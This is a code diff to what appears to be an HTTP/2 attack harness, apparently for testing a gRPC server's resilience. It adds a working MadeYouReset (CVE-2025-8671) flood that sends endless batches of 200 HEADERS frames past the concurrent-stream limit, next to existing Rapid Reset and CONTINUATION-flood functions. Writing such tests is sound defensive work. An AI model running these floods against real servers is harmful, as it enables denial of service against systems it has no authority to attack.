@@ -154,6 +154,32 @@ pub async fn rapid_reset(target: &Target) -> Attacked {
     closing(h2, &seen, Duration::from_secs(2)).await
 }
 
+/// MadeYouReset (CVE-2025-8671) class: streams the client makes the server reset, as
+/// fast as the socket takes them — here calls past `SETTINGS_MAX_CONCURRENT_STREAMS`,
+/// held open, each of which the server must refuse with RST_STREAM REFUSED_STREAM. (A
+/// zero WINDOW_UPDATE on a stream, the other classic trigger, already ends the whole
+/// connection with PROTOCOL_ERROR in h2; a request without `:path` is answered.)
+pub async fn made_you_reset(target: &Target) -> Attacked {
+    let mut h2 = H2::open(target, &[]).await;
+    let seen = h2.watch();
+    loop {
+        let mut batch = Vec::new();
+        for _ in 0..200 {
+            let id = h2.stream();
+            batch.extend(frame(
+                HEADERS,
+                END_HEADERS,
+                id,
+                &Block::grpc(LIST_BUNDLES, h2.tls).0,
+            ));
+        }
+        if !h2.send(&batch).await || seen.lock().expect("seen").closed.is_some() {
+            break;
+        }
+    }
+    closing(h2, &seen, Duration::from_secs(2)).await
+}
+
 /// CVE-2024-27316 class: a header block that never ends, CONTINUATION after
 /// CONTINUATION, each full of new headers.
 pub async fn continuation_flood(target: &Target) -> Attacked {
